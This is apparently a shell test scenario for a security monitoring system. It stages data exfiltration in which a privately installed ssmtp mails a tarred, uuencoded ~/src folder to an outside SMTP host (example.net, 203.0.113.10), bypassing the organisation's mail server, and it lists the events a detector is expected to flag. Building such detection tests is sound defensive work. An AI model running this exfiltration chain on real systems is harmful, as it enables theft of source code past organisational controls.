# A tiny sendmail of one's own, with a configuration of one's own.
title="ssmtp in the home directory hands an archive to an outside server"
what="dev has put ssmtp into ~/.local/bin and a configuration beside it. Over ssh without a terminal a detached script packs ~/src, encodes it with uuencode and pipes it as a message into ssmtp -C, which speaks SMTP to 203.0.113.10 port 587. The organisation's own server is passed by."
host=ws3.example.org user=dev daemons="cron sshd"

setup() {
  local at; at=$(unpacked ssmtp) || return 1
  install -d -o dev -g dev /home/dev/.local /home/dev/.local/bin /home/dev/src
  install -o dev -g dev -m 755 "$at/usr/sbin/ssmtp" /home/dev/.local/bin/ssmtp
  printf 'mailhub=mail.example.net:587\nrewriteDomain=example.net\nhostname=ws3.example.org\nFromLineOverride=YES\n' > /home/dev/.local/bin/s.conf
  head -c 120000 /dev/urandom > /home/dev/src/core.c
  printf 'cd $HOME\n{ printf "To: box@example.net\\nFrom: dev@example.net\\nSubject: nightly\\n\\n"; tar -czf - src | uuencode n.tgz; } | .local/bin/ssmtp -C.local/bin/s.conf box@example.net\n' > /home/dev/.local/bin/n
  chown -R dev: /home/dev/.local /home/dev/src
}
act() {
  small_talk 2
  ssh_run dev 'setsid nohup sh .local/bin/n >/dev/null 2>&1 & sleep 6'
  small_talk 1
}
truth() {
  exec_step start 'sh .local/bin/n' 'the script starts, detached'
  exec_step pack 'tar -czf - src' 'a folder is packed'
  exec_step encode 'uuencode n.tgz' 'and encoded'
  exec_step send 'ssmtp -C' 'a sendmail of the user'"'"'s own'
  net_step connect 'ssmtp 203.0.113.10:587' 'past the own server'
}
